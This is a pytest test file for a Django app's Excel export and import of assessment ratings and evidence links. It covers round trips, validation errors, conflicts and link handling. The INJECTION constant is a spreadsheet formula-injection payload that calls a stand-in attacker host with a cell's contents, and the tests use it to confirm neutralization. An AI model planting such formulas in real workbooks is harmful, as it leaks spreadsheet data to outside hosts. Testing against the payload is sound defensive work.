"""The assessment workbook: export read back with openpyxl as an independent reader, and the import: lossless
round trips on both scales, formula injection, every kind of error named by sheet, row and column, all or
nothing, conflicts with changes made in certprep since the export, and links."""

from __future__ import annotations

import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook, load_workbook

from certprep.core.errors import ConflictError, ServiceError
from certprep.core.models import AuditEntry
from certprep.engagements import services as engagement_services
from certprep.engagements.models import Membership
from certprep.engagements.tests.factories import UserFactory
from certprep.gaps.models import Assessment, DocumentItem, Evidence, Rating
from certprep.gaps.services import assessments as assessment_services
from certprep.gaps.services import ratings as rating_services
from certprep.gaps.spreadsheet import assessment_export, assessment_import
from certprep.survey.models import Response
from certprep.survey.services import answers as answer_services
from certprep.survey.tests.factories import person, sent_campaign

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PA = ["1.1", "2.1", "2.2", "3.1", "3.2", "4.1", "4.2", "5.1", "5.2"]
COMPLIANCE_HEADER = [
    "Rating id", "Version", "Reference", "Requirement", "What it requires", "Weight", "Rating (0-3)",
    "Target", "Gap", "Documentation", "Assessor", "Notes", "Row check",
]  # fmt: skip
CAPABILITY_HEADER = [
    "Rating id", "Version", "Reference", "Requirement", "What it requires", "Weight", *[f"PA {k}" for k in PA],
    "Level (computed)", "Target", "Gap", "Documentation", "Assessor", "Notes", "Row check",
]  # fmt: skip


# Helpers ----------------------------------------------------------------------------------------------


def workbook(data):
    return load_workbook(io.BytesIO(data))


def sheet_values(data, name):
    return [list(row) for row in workbook(data)[name].iter_rows(values_only=True)]


def save(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def create(engagement, owner, scale, name="Baseline"):
    gap_settings = assessment_services.settings_for(engagement)
    gap_settings.scale = scale
    gap_settings.save()
    return assessment_services.assessment_create(
        engagement=engagement, actor=owner, name=name, assessed_on=datetime.date(2026, 3, 2)
    )


def rating(assessment, ref):
    return Rating.objects.select_related("assessment__engagement", "requirement").get(
        assessment=assessment, requirement__ref_id=ref
    )


def rate(actor, assessment, ref, **changes):
    found = rating(assessment, ref)
    return rating_services.rating_update(rating=found, actor=actor, expected_version=found.version, **changes)


def row_of(book_or_sheet, ref, column=3):
    """The row number of a reference on the Ratings (column C) or Evidence (column B) sheet."""
    sheet = book_or_sheet
    for cells in sheet.iter_rows(min_row=2):
        if cells[column - 1].value == ref:
            return cells[0].row
    raise AssertionError(ref)


def state(assessment):
    """Everything an import may change, to show that nothing did."""
    return (
        list(
            Rating.objects.filter(assessment=assessment)
            .order_by("pk")
            .values_list("pk", "version", "level", "attributes", "target", "notes", "owner_id")
        ),
        list(
            DocumentItem.objects.filter(engagement_id=assessment.engagement_id)
            .order_by("pk")
            .values_list("pk", "version", "status", "requirements")
        ),
        list(
            Evidence.objects.filter(rating__assessment=assessment)
            .order_by("pk")
            .values_list("pk", "rating_id", "kind", "title", "url")
        ),
    )


def edited(assessment, edit):
    book = workbook(assessment_export(assessment))
    edit(book)
    return save(book)


def do_import(assessment, owner, data, filename="gaps.xlsx"):
    return assessment_import(assessment=assessment, actor=owner, raw=data, filename=filename)


def maturity_answer(engagement, owner):
    person(engagement, "Alice A", roles=["process_manager"], processes=["incident"])
    campaign, _tokens = sent_campaign(engagement, owner, keys=("process-incident",))
    response = Response.objects.select_related("respondent").get(respondent__campaign=campaign)
    question = response.questionnaire.questions.get(key="maturity")
    return answer_services.answer_save(
        respondent=response.respondent, response=response, question=question, raw=2, expected_version=None
    ).answer


NO_CHANGE = {"ratings": 0, "links_added": 0, "links_changed": 0, "links_removed": 0}


# Fixtures ---------------------------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def member(engagement, owner):
    user = UserFactory(username="+eddie")  # a username a spreadsheet would take for a formula
    engagement_services.member_add(engagement=engagement, actor=owner, user=user, role="editor")
    return user


@pytest.fixture
def compliance(engagement, owner, catalogue, member):
    assessment = create(engagement, owner, "compliance")
    rate(owner, assessment, "4.1", level=3, documentation="controlled", notes="Context documented.")
    rate(owner, assessment, "8.6.1", level=1, target=2, documentation="draft", notes=INJECTION, owner=member)
    return assessment


@pytest.fixture
def capability(engagement, owner, catalogue, member):
    assessment = create(engagement, owner, "capability")
    rate(owner, assessment, "4.1", attributes={"1.1": "F", "2.1": "L", "2.2": "F"}, notes="Line one\nline two")
    rate(owner, assessment, "8.6.1", attributes={"1.1": "L"}, target=4, owner=member, documentation="missing")
    return assessment


@pytest.fixture
def with_evidence(compliance, owner, engagement, media):
    """A link, a file and a survey answer on 8.6.1."""
    found = rating(compliance, "8.6.1")
    rating_services.evidence_add_link(
        rating=found, actor=owner, url="https://wiki.client-a.example/incident", title="Procedure"
    )
    rating_services.evidence_add_file(
        rating=found, actor=owner, upload=SimpleUploadedFile("procedure.pdf", PDF, content_type="application/pdf")
    )
    rating_services.evidence_add_answer(rating=found, actor=owner, answer=maturity_answer(engagement, owner))
    return compliance


# Export -----------------------------------------------------------------------------------------------


def test_the_compliance_export_is_readable_and_complete(compliance, member):
    data = assessment_export(compliance)
    book = workbook(data)
    assert book.sheetnames == ["Ratings", "Evidence", "Assessment", "About", "Lists"]
    assert book["Lists"].sheet_state == "hidden"
    sheet = book["Ratings"]
    rows = sheet_values(data, "Ratings")
    assert rows[0] == COMPLIANCE_HEADER
    ratings = list(Rating.objects.filter(assessment=compliance).order_by("requirement__order"))
    assert [r[0] for r in rows[1:]] == [r.pk for r in ratings]  # requirement order
    assert len(rows) == len(ratings) + 1
    stored = rating(compliance, "8.6.1")
    line = rows[row_of(sheet, "8.6.1") - 1]
    assert line[:3] == [stored.pk, stored.version, "8.6.1"]
    assert line[3] == stored.requirement.name
    assert line[4] == stored.requirement.description
    assert line[5] == stored.requirement.weight
    assert line[6:12] == [1, 2, 1, "draft", "'+eddie", "'" + INJECTION]
    unrated = rows[row_of(sheet, "4.2") - 1]
    assert unrated[6:12] == [None, None, None, None, None, None]
    assert rows[row_of(sheet, "4.1") - 1][6:12] == [3, None, 0, "approved", None, "Context documented."]
    assert len(line[12]) == 16
    assert line[12] != unrated[12]
    assert sheet.column_dimensions["M"].hidden
    assert sheet.freeze_panes == "D2"
    assert sheet.column_dimensions["E"].width == 60
    assert sheet["A1"].font.bold
    assert sheet["L1"].comment is not None
    assert sheet["E2"].alignment.wrap_text
    checks = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    assert checks[f"J2:J{len(ratings) + 1}"].formula1 == "Lists!$A$1:$A$6"
    assert checks[f"K2:K{len(ratings) + 1}"].formula1 == "Lists!$B$1:$B$2"
    assert checks[f"H2:H{len(ratings) + 1}"].type == "whole"
    lists = sheet_values(data, "Lists")
    assert [r[0] for r in lists[:5]] == ["missing", "draft", "in_review", "uncontrolled", "approved"]
    assert [r[1] for r in lists[:2]] == ["'+eddie", "olivia"]
    info = {r[0]: r[1] for r in sheet_values(data, "Assessment")[1:]}
    assert info["assessment_id"] == compliance.pk
    assert info["name"] == "Baseline"
    assert info["framework"] == "urn:certprep:framework:iso-iec-20000-1-2018"
    assert info["scale"] == "compliance"
    assert info["default_target"] == 3
    assert datetime.datetime.fromisoformat(info["exported_at"]).tzinfo is not None


def test_the_capability_export_has_attribute_columns_and_a_computed_level(capability):
    data = assessment_export(capability)
    sheet = workbook(data)["Ratings"]
    rows = sheet_values(data, "Ratings")
    assert rows[0] == CAPABILITY_HEADER
    line = rows[row_of(sheet, "4.1") - 1]
    assert line[6:15] == ["F", "L", "F", None, None, None, None, None, None]
    assert line[15:21] == [2, None, 1, None, None, "Line one\nline two"]  # level 2, gap 3 - 2
    line = rows[row_of(sheet, "8.6.1") - 1]
    assert line[6] == "L"
    assert line[15:20] == [1, 4, 3, "missing", "'+eddie"]
    checks = {str(v.sqref).split(":")[0]: v for v in sheet.data_validations.dataValidation}
    assert checks["G2"].formula1 == '"N,P,L,F"'
    assert checks["O2"].formula1 == '"N,P,L,F"'


def test_the_about_sheet_explains_columns_scale_and_values(capability):
    text = "\n".join(
        str(cell) for row in sheet_values(assessment_export(capability), "About") for cell in row if cell is not None
    )
    assert "Level (computed)" in text
    assert "Read-only" in text
    assert "F - fully achieved (>85-100 %)" in text
    assert "Established" in text
    assert "not_needed" in text
    assert "Approved and controlled" in text
    assert "Files and survey answers" in text
    assert "even when their rows are changed or removed" in text


def test_the_evidence_sheet_lists_links_files_and_answers(with_evidence):
    data = assessment_export(with_evidence)
    rows = sheet_values(data, "Evidence")
    assert rows[0] == ["Evidence id", "Reference", "Kind", "Title", "Link"]
    pks = list(Evidence.objects.filter(rating__assessment=with_evidence).order_by("pk").values_list("pk", flat=True))
    assert rows[1] == [pks[0], "8.6.1", "link", "Procedure", "https://wiki.client-a.example/incident"]
    assert rows[2] == [pks[1], "8.6.1", "file", "procedure.pdf", "procedure.pdf"]
    assert rows[3][:3] == [pks[2], "8.6.1", "answer"]
    assert rows[3][4].startswith("Alice A: ")


def test_the_export_takes_the_same_queries_whatever_the_data(engagement, owner, compliance, media):
    def count():
        with CaptureQueriesContext(connection) as queries:
            assessment_export(compliance)
        return len(queries)

    few = count()
    for ref in ("4.1", "4.2", "8.6.1", "8.6.2"):
        found = rating(compliance, ref)
        rating_services.evidence_add_link(rating=found, actor=owner, url=f"https://client-a.example/{ref}")
        rating_services.evidence_add_file(rating=found, actor=owner, upload=SimpleUploadedFile(f"{ref}.pdf", PDF))
        user = UserFactory()
        engagement_services.member_add(engagement=engagement, actor=owner, user=user, role="viewer")
        rate(owner, compliance, ref, owner=user, notes="more")
    assert count() == few


# Round trips ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("scale", ["compliance", "capability"])
def test_importing_an_unchanged_export_changes_nothing(request, owner, scale):
    assessment = request.getfixturevalue(scale)
    before, audits = state(assessment), AuditEntry.objects.count()
    assert do_import(assessment, owner, assessment_export(assessment)) == NO_CHANGE
    assert state(assessment) == before
    assert AuditEntry.objects.count() == audits


def _without(rows, *columns):
    return [[v for i, v in enumerate(row) if i not in columns] for row in rows]


def test_a_compliance_round_trip_brings_back_the_edited_values(compliance, owner, member):
    first = assessment_export(compliance)
    book = workbook(first)
    sheet = book["Ratings"]
    r42, r861 = row_of(sheet, "4.2"), row_of(sheet, "8.6.1")
    sheet[f"G{r42}"], sheet[f"H{r42}"], sheet[f"J{r42}"] = 2, 3, "uncontrolled"
    sheet[f"K{r42}"], sheet[f"L{r42}"] = "'+eddie", "-starts with a minus"
    sheet[f"G{r861}"], sheet[f"H{r861}"], sheet[f"K{r861}"] = None, None, None  # cleared
    audits = AuditEntry.objects.count()
    assert do_import(compliance, owner, save(book)) == {**NO_CHANGE, "ratings": 2}
    # two ratings, the import, and the checklist item that now holds 4.2's documentation (created, then set)
    assert AuditEntry.objects.count() == audits + 5
    changed = rating(compliance, "4.2")
    assert (changed.level, changed.target, changed.documentation, changed.owner, changed.notes) == (
        2, 3, "uncontrolled", member, "-starts with a minus",
    )  # fmt: skip
    cleared = rating(compliance, "8.6.1")
    assert (cleared.level, cleared.target, cleared.owner, cleared.notes) == (None, None, None, INJECTION)
    second = assessment_export(compliance)
    old, new = sheet_values(first, "Ratings"), sheet_values(second, "Ratings")
    assert new[r42 - 1][6:12] == [2, 3, 1, "uncontrolled", "'+eddie", "'-starts with a minus"]
    assert new[r861 - 1][6:12] == [None, None, None, "draft", None, "'" + INJECTION]
    untouched = [i for i in range(len(old)) if i not in (r42 - 1, r861 - 1)]
    assert [old[i] for i in untouched] == [new[i] for i in untouched]
    assert new[r42 - 1][1] == old[r42 - 1][1] + 1  # the version moved on


def test_a_capability_round_trip_brings_back_the_edited_values(capability, owner):
    first = assessment_export(capability)
    book = workbook(first)
    sheet = book["Ratings"]
    r41, r42 = row_of(sheet, "4.1"), row_of(sheet, "4.2")
    sheet[f"H{r41}"], sheet[f"J{r41}"], sheet[f"K{r41}"] = "f", "L", "l"  # 2.1 F, 3.1 L, 3.2 L: level 3
    sheet[f"P{r41}"] = 0  # a level typed by hand is ignored: it is computed
    sheet[f"G{r42}"], sheet[f"Q{r42}"], sheet[f"S{r42}"] = "P", 5, "not_needed"
    assert do_import(capability, owner, save(book)) == {**NO_CHANGE, "ratings": 2}
    assert rating(capability, "4.1").attributes == {"1.1": "F", "2.1": "F", "2.2": "F", "3.1": "L", "3.2": "L"}
    assert rating(capability, "4.1").level == 3
    second = sheet_values(assessment_export(capability), "Ratings")
    assert second[r41 - 1][6:15] == ["F", "F", "F", "L", "L", None, None, None, None]
    assert second[r41 - 1][15:21] == [3, None, 0, None, None, "Line one\nline two"]
    assert second[r42 - 1][6:15] == ["P", None, None, None, None, None, None, None, None]
    assert second[r42 - 1][15:21] == [0, 5, 5, "not_needed", None, None]
    old = sheet_values(first, "Ratings")
    untouched = [i for i in range(len(old)) if i not in (r41 - 1, r42 - 1)]
    assert [old[i] for i in untouched] == [second[i] for i in untouched]


def test_a_level_typed_by_hand_alone_changes_nothing(capability, owner):
    before = state(capability)
    data = edited(capability, lambda b: b["Ratings"].__setitem__(f"P{row_of(b['Ratings'], '4.1')}", 5))
    assert do_import(capability, owner, data) == NO_CHANGE
    assert state(capability) == before


def test_formula_text_is_written_neutralized_and_comes_back_exactly(compliance, owner):
    book = workbook(assessment_export(compliance))
    sheet = book["Ratings"]
    row = row_of(sheet, "8.6.1")
    cell = sheet[f"L{row}"]
    assert cell.data_type == "s"
    assert cell.value == "'" + INJECTION
    sheet[f"L{row_of(sheet, '4.2')}"] = "'@SUM(A1:A3)"  # typed in Excel with its text marker
    sheet[f"G{row}"] = 2
    do_import(compliance, owner, save(book))
    assert rating(compliance, "8.6.1").notes == INJECTION
    assert rating(compliance, "4.2").notes == "@SUM(A1:A3)"
    again = workbook(assessment_export(compliance))["Ratings"]
    assert again[f"L{row}"].value == "'" + INJECTION


def test_values_are_read_leniently_where_it_is_safe(compliance, owner, member):
    def edit(book):
        sheet = book["Ratings"]
        row = row_of(sheet, "4.2")
        sheet[f"G{row}"], sheet[f"H{row}"] = "2", 3.0  # numbers typed as text, or as decimals
        sheet[f"J{row}"], sheet[f"K{row}"] = "Approved and controlled", "+EDDIE"  # a label; a username's case

    do_import(compliance, owner, edited(compliance, edit))
    found = rating(compliance, "4.2")
    assert (found.level, found.target, found.documentation, found.owner) == (2, 3, "approved", member)


def test_an_assessor_who_left_the_engagement_is_kept(compliance, owner, member):
    Membership.objects.filter(user=member).delete()
    before = state(compliance)
    assert do_import(compliance, owner, assessment_export(compliance)) == NO_CHANGE
    assert state(compliance) == before


def test_rows_removed_from_the_sheet_are_left_as_they_are(compliance, owner):
    before = state(compliance)
    data = edited(compliance, lambda b: b["Ratings"].delete_rows(2, 10))
    assert do_import(compliance, owner, data) == NO_CHANGE
    assert state(compliance) == before


# Errors -----------------------------------------------------------------------------------------------


def _set(ref, column, value):
    def edit(book):
        sheet = book["Ratings"]
        sheet[f"{column}{row_of(sheet, ref)}"] = value

    return edit


def _row(ref):
    def find(assessment):
        return row_of(workbook(assessment_export(assessment))["Ratings"], ref)

    return find


COMPLIANCE_ERRORS = [
    (
        _set("8.6.1", "G", 4),
        "column G (Rating (0-3)): the rating must be a whole number from 0 to 3, or empty when not rated.",
    ),
    (_set("8.6.1", "G", "two"), "column G (Rating (0-3)): the rating must be a whole number from 0 to 3"),
    (_set("8.6.1", "G", 1.5), "column G (Rating (0-3)): the rating must be a whole number"),
    (_set("8.6.1", "H", 4), "column H (Target): the target must be between 1 and 3."),
    (_set("8.6.1", "H", 0), "column H (Target): the target must be between 1 and 3."),
    (
        _set("8.6.1", "J", "done"),
        'column J (Documentation): "done" is not a documentation status; use one of missing, draft',
    ),
    (_set("8.6.1", "K", "mallory"), 'column K (Assessor): "mallory" is not a member of this engagement.'),
    (_set("8.6.1", "L", "x" * 20_001), "column L (Notes): at most 20000 characters."),
    (_set("8.6.1", "A", 999_999), "column A (Rating id): there is no rating 999999 in this assessment."),
    (_set("8.6.1", "A", "abc"), 'column A (Rating id): "abc" is not a rating id'),
    (_set("8.6.1", "B", ""), 'column B (Version): "" is not the version of the export'),
    (_set("8.6.1", "C", "99.9"), 'column C (Reference): there is no requirement "99.9" in this assessment.'),
    (_set("8.6.1", "C", "4.1"), 'column C (Reference): rating {pk} is requirement "8.6.1", not "4.1".'),
]


@pytest.mark.parametrize(("edit", "message"), COMPLIANCE_ERRORS)
def test_an_invalid_rating_cell_is_named_and_nothing_changes(compliance, owner, edit, message):
    before, audits = state(compliance), AuditEntry.objects.count()
    row = _row("8.6.1")(compliance)
    with pytest.raises(ServiceError) as caught:
        do_import(compliance, owner, edited(compliance, edit))
    expected = f'Sheet "Ratings", row {row}, ' + message.format(pk=rating(compliance, "8.6.1").pk)
    assert caught.value.message.startswith(expected), caught.value.message
    assert state(compliance) == before
    assert AuditEntry.objects.count() == audits


def test_an_attribute_outside_npLF_is_named(capability, owner):
    row = _row("4.1")(capability)
    with pytest.raises(ServiceError) as caught:
        do_import(capability, owner, edited(capability, _set("4.1", "K", "X")))
    assert caught.value.message == f'Sheet "Ratings", row {row}, column K (PA 3.2): "X" is not N, P, L or F.'
    with pytest.raises(ServiceError, match=rf"row {row}, column Q \(Target\): the target must be between 1 and 5\."):
        do_import(capability, owner, edited(capability, _set("4.1", "Q", 6)))


def test_a_rating_listed_twice_is_refused(compliance, owner):
    def twice(book):
        sheet = book["Ratings"]
        sheet.append([c.value for c in sheet[row_of(sheet, "8.6.1")]])

    with pytest.raises(ServiceError, match=r"column A \(Rating id\): rating \d+ appears twice \(also on row \d+\)\."):
        do_import(compliance, owner, edited(compliance, twice))


def test_a_moved_or_renamed_column_is_refused(compliance, owner):
    with pytest.raises(ServiceError) as caught:
        do_import(compliance, owner, edited(compliance, lambda b: b["Ratings"].insert_cols(3)))
    assert caught.value.message.startswith(
        'Sheet "Ratings", row 1, column C (Reference): the column header is "" where the export has "Reference".'
    )


def test_a_failing_row_late_in_the_file_leaves_everything_as_it_was(with_evidence, owner):
    before, audits = state(with_evidence), AuditEntry.objects.count()

    def edit(book):
        sheet = book["Ratings"]
        for ref in ("4.1", "4.2", "8.6.1"):
            sheet[f"G{row_of(sheet, ref)}"] = 2
            sheet[f"L{row_of(sheet, ref)}"] = "changed"
        sheet[f"H{sheet.max_row}"] = 9  # the very last requirement
        evidence = book["Evidence"]
        evidence["E2"] = "https://changed.example/"
        evidence.append([None, "4.1", "link", "New", "https://new.example/"])

    with pytest.raises(ServiceError, match=r"column H \(Target\)"):
        do_import(with_evidence, owner, edited(with_evidence, edit))
    assert state(with_evidence) == before
    assert AuditEntry.objects.count() == audits


def test_an_error_on_the_evidence_sheet_leaves_the_ratings_as_they_were(with_evidence, owner):
    before = state(with_evidence)

    def edit(book):
        sheet = book["Ratings"]
        sheet[f"G{row_of(sheet, '4.1')}"] = 0
        book["Evidence"].append([None, "4.1", "link", "Bad", "ftp://files.example/x"])

    with pytest.raises(ServiceError) as caught:
        do_import(with_evidence, owner, edited(with_evidence, edit))
    assert caught.value.message == (
        'Sheet "Evidence", row 5, column E (Link): Enter a full web address starting with http:// or https://.'
    )
    assert state(with_evidence) == before


EVIDENCE_ERRORS = [
    (
        lambda b: b["Evidence"].append([None, "99.9", None, None, "https://x.example/"]),
        5,
        'column B (Reference): there is no requirement "99.9"',
    ),
    (
        lambda b: b["Evidence"].append([None, None, None, "t", "https://x.example/"]),
        5,
        "column B (Reference): give the reference",
    ),
    (lambda b: b["Evidence"].append([None, "4.1", None, "t", None]), 5, "column E (Link): Enter the link."),
    (
        lambda b: b["Evidence"].append([None, "4.1", "file", "t", "a.pdf"]),
        5,
        "column C (Kind): only links can be added",
    ),
    (
        lambda b: b["Evidence"].append([None, "4.1", None, "x" * 301, "https://x.example/"]),
        5,
        "column D (Title): The title may hold at most 300 characters.",
    ),
    (
        lambda b: b["Evidence"].append([None, "4.1", None, "Policy\nBcc: all@client-a.example", "https://x.example/"]),
        5,
        "column D (Title): The title must be one line of text: line breaks, tabs and other control characters are "
        "not allowed.",
    ),
    (
        lambda b: b["Evidence"].append([None, "4.1", None, "Policy\u2028draft", "https://x.example/"]),
        5,
        "column D (Title): The title must be one line of text",
    ),
    (
        lambda b: b["Evidence"].__setitem__("A2", 999_999),
        2,
        "column A (Evidence id): there is no evidence 999999 in this assessment",
    ),
    (
        lambda b: b["Evidence"].__setitem__("A3", b["Evidence"]["A2"].value),
        3,
        "column A (Evidence id): evidence {pk} appears twice (also on row 2).",
    ),
    (lambda b: b["Evidence"].__setitem__("B2", "nope"), 2, 'column B (Reference): there is no requirement "nope"'),
]


@pytest.mark.parametrize(("edit", "row", "message"), EVIDENCE_ERRORS)
def test_an_invalid_evidence_row_is_named_and_nothing_changes(with_evidence, owner, edit, row, message):
    before = state(with_evidence)
    link = Evidence.objects.get(rating__assessment=with_evidence, kind="link")
    with pytest.raises(ServiceError) as caught:
        do_import(with_evidence, owner, edited(with_evidence, edit))
    assert caught.value.message.startswith(f'Sheet "Evidence", row {row}, ' + message.format(pk=link.pk)), (
        caught.value.message
    )
    assert state(with_evidence) == before


def test_a_requirement_cannot_get_more_evidence_than_allowed(compliance, owner):
    found = rating(compliance, "4.1")
    Evidence.objects.bulk_create(
        [Evidence(rating=found, kind="link", url=f"https://x.example/{i}", title=str(i)) for i in range(49)]
    )
    data = edited(
        compliance,
        lambda b: [b["Evidence"].append([None, "4.1", None, None, f"https://y.example/{i}"]) for i in range(2)],
    )
    with pytest.raises(
        ServiceError,
        match=r'Sheet "Evidence", row 52, column B \(Reference\): requirement 4\.1 would have more than 50',
    ):
        do_import(compliance, owner, data)


# The workbook and the assessment ---------------------------------------------------------------------


def test_a_workbook_of_another_assessment_is_refused(engagement, owner, compliance):
    other = assessment_services.assessment_create(
        engagement=engagement, actor=owner, name="Reassessment", assessed_on=datetime.date(2026, 6, 1)
    )
    with pytest.raises(ServiceError) as caught:
        do_import(other, owner, assessment_export(compliance))
    assert caught.value.message == (
        'Sheet "Assessment", row 2, column B (Value): this workbook was exported from another assessment '
        '("Baseline"), not from "Reassessment". Export this assessment and make your changes in that workbook.'
    )


def test_a_workbook_with_another_framework_or_scale_is_refused(compliance, owner):
    with pytest.raises(ServiceError, match=r'row 4, column B \(Value\): this workbook is for the framework "urn:x"'):
        do_import(compliance, owner, edited(compliance, lambda b: b["Assessment"].__setitem__("B4", "urn:x")))
    with pytest.raises(
        ServiceError,
        match=r'row 5, column B \(Value\): this workbook uses the scale "capability"; '
        r'this assessment uses "compliance"',
    ):
        do_import(compliance, owner, edited(compliance, lambda b: b["Assessment"].__setitem__("B5", "capability")))


def test_what_is_not_the_assessment_workbook_is_refused(compliance, owner):
    with pytest.raises(ServiceError, match=r"Upload the Excel workbook \(\.xlsx\)"):
        do_import(compliance, owner, b"a,b", filename="gaps.csv")
    with pytest.raises(ServiceError, match="not a readable Excel workbook"):
        do_import(compliance, owner, b"not a zip")
    with pytest.raises(ServiceError, match='no sheet named "Assessment"'):
        do_import(compliance, owner, save(Workbook()))
    with pytest.raises(ServiceError, match='no sheet named "Evidence"'):
        do_import(compliance, owner, edited(compliance, lambda b: b.remove(b["Evidence"])))
    with pytest.raises(ServiceError, match='the row "exported_at" is missing'):
        do_import(compliance, owner, edited(compliance, lambda b: b["Assessment"].delete_rows(7)))


def test_a_closed_assessment_refuses_imports(compliance, owner):
    data = assessment_export(compliance)
    Assessment.objects.filter(pk=compliance.pk).update(status="closed")
    with pytest.raises(ServiceError, match="This assessment is closed"):
        do_import(compliance, owner, data)


# Concurrency -----------------------------------------------------------------------------------------


def test_a_row_changed_in_certprep_and_in_the_file_is_a_conflict(compliance, owner):
    book = workbook(assessment_export(compliance))
    sheet = book["Ratings"]
    row = row_of(sheet, "8.6.1")
    sheet[f"G{row}"] = 3
    sheet[f"G{row_of(sheet, '4.2')}"] = 1  # a good change earlier in the file is not applied either
    rate(owner, compliance, "8.6.1", notes="Changed meanwhile")
    before = state(compliance)
    with pytest.raises(ConflictError) as caught:
        do_import(compliance, owner, save(book))
    message = caught.value.message
    assert message.startswith(
        f'Sheet "Ratings", row {row} (8.6.1): this requirement was changed in certprep since the export'
    )
    assert "Nothing was imported" in message
    assert state(compliance) == before


def test_a_row_changed_only_in_certprep_keeps_that_change(compliance, owner):
    book = workbook(assessment_export(compliance))
    sheet = book["Ratings"]
    sheet[f"G{row_of(sheet, '4.2')}"] = 1
    rate(owner, compliance, "8.6.1", notes="Changed meanwhile")
    assert do_import(compliance, owner, save(book)) == {**NO_CHANGE, "ratings": 1}
    assert rating(compliance, "8.6.1").notes == "Changed meanwhile"
    assert rating(compliance, "4.2").level == 1


def test_without_its_row_check_a_row_changed_only_in_certprep_is_a_conflict(compliance, owner):
    book = workbook(assessment_export(compliance))
    sheet = book["Ratings"]
    row = row_of(sheet, "8.6.1")
    sheet[f"M{row}"] = None
    rate(owner, compliance, "8.6.1", notes="Changed meanwhile")
    with pytest.raises(ConflictError, match=rf'Sheet "Ratings", row {row} \(8\.6\.1\): this requirement was changed'):
        do_import(compliance, owner, save(book))


def test_a_row_changed_to_the_same_values_in_both_places_is_no_conflict(compliance, owner):
    book = workbook(assessment_export(compliance))
    sheet = book["Ratings"]
    sheet[f"G{row_of(sheet, '8.6.1')}"] = 2
    rate(owner, compliance, "8.6.1", level=2)
    version = rating(compliance, "8.6.1").version
    assert do_import(compliance, owner, save(book)) == NO_CHANGE
    assert rating(compliance, "8.6.1").version == version


# Links ------------------------------------------------------------------------------------------------


def test_links_are_added_changed_and_removed_and_files_and_answers_are_kept(with_evidence, owner):
    link = Evidence.objects.get(rating__assessment=with_evidence, kind="link")
    second = rating_services.evidence_add_link(
        rating=rating(with_evidence, "4.1"), actor=owner, url="https://old.example/", title="Old"
    )
    kept = {e.pk: (e.title, e.rating_id) for e in Evidence.objects.filter(kind__in=["file", "answer"])}

    def edit(book):
        sheet = book["Evidence"]
        assert sheet["A2"].value == second.pk  # requirement order: 4.1 comes first
        sheet.delete_rows(2)  # remove the link "Old"
        # row 2 is now the link of 8.6.1: move it to 8.6.2 with a new title and address
        sheet["B2"], sheet["D2"], sheet["E2"] = "8.6.2", "=Runbook", "https://wiki.client-a.example/runbook"
        sheet["D3"] = "Edited title of a file: ignored"
        sheet.delete_rows(4)  # the answer's row: the answer stays evidence
        sheet.append([None, "4.1", None, None, "https://policy.client-a.example/"])
        sheet.append([None, "4.1", "link", "Scope", "https://scope.client-a.example/"])

    audits = AuditEntry.objects.count()
    counts = do_import(with_evidence, owner, edited(with_evidence, edit))
    assert counts == {"ratings": 0, "links_added": 2, "links_changed": 1, "links_removed": 1}
    assert AuditEntry.objects.count() == audits + 5
    assert not Evidence.objects.filter(pk=second.pk).exists()
    link.refresh_from_db()
    assert (link.rating.requirement.ref_id, link.title, link.url) == (
        "8.6.2",
        "=Runbook",
        "https://wiki.client-a.example/runbook",
    )
    added = list(
        Evidence.objects.filter(rating=rating(with_evidence, "4.1")).order_by("pk").values_list("title", "url")
    )
    assert added == [
        ("https://policy.client-a.example/", "https://policy.client-a.example/"),
        ("Scope", "https://scope.client-a.example/"),
    ]
    assert {e.pk: (e.title, e.rating_id) for e in Evidence.objects.filter(kind__in=["file", "answer"])} == kept
    rows = sheet_values(assessment_export(with_evidence), "Evidence")
    assert [r[1:4] for r in rows[1:]] == [
        ["4.1", "link", "https://policy.client-a.example/"],
        ["4.1", "link", "Scope"],
        ["8.6.1", "file", "procedure.pdf"],
        ["8.6.1", "answer", rows[4][3]],
        ["8.6.2", "link", "'=Runbook"],
    ]


def test_a_link_title_keeps_no_bidirectional_control(with_evidence, owner):
    def edit(book):
        book["Evidence"].append(
            [None, "4.1", "link", "\u202eScope  \u2066plan\u2069", "https://scope.client-a.example/"]
        )

    assert do_import(with_evidence, owner, edited(with_evidence, edit))["links_added"] == 1
    added = Evidence.objects.get(rating=rating(with_evidence, "4.1"), url="https://scope.client-a.example/")
    assert added.title == "Scope plan"


def test_a_link_added_in_certprep_after_the_export_is_kept(with_evidence, owner):
    data = assessment_export(with_evidence)
    later = rating_services.evidence_add_link(
        rating=rating(with_evidence, "4.1"), actor=owner, url="https://later.example/"
    )
    assert do_import(with_evidence, owner, data) == NO_CHANGE
    assert Evidence.objects.filter(pk=later.pk).exists()


# --- headers and values of earlier exports (moved from core/tests/test_chinese_wording.py with the code) ---


@pytest.mark.parametrize("scale", ["compliance", "capability"])
def test_a_workbook_exported_with_the_old_chinese_documentation_header_still_reads(scale):
    """The Documentation column was headed 文档化 in Chinese exports; the header check still takes it."""
    from django.utils import translation

    from certprep.core.sheet_columns import Sheet, check_header
    from certprep.gaps.spreadsheet import rating_columns

    with translation.override("zh-hans"):
        columns = rating_columns(scale)
        headers = [column.header for column in columns]
        assert "成文信息状态" in headers
        assert "文档化" not in headers
        old = ["文档化" if column.key == "documentation" else column.header for column in columns]
        check_header(Sheet("Ratings", columns), [(1, old)], lambda: rating_columns(scale))
        wrong = ["文档" if column.key == "documentation" else column.header for column in columns]
        with pytest.raises(ServiceError, match="文档"):
            check_header(Sheet("Ratings", columns), [(1, wrong)], lambda: rating_columns(scale))


def test_the_old_chinese_label_of_none_needed_still_imports():
    """Workbooks exported in Chinese wrote 无需 for "None needed"; the label is 无需成文信息 now."""
    from django.utils import translation

    from certprep.gaps.spreadsheet import documentation_value

    with translation.override("zh-hans"):
        assert documentation_value("无需成文信息") == "not_needed"
        assert documentation_value("无需") == "not_needed"
        assert documentation_value("无") is None
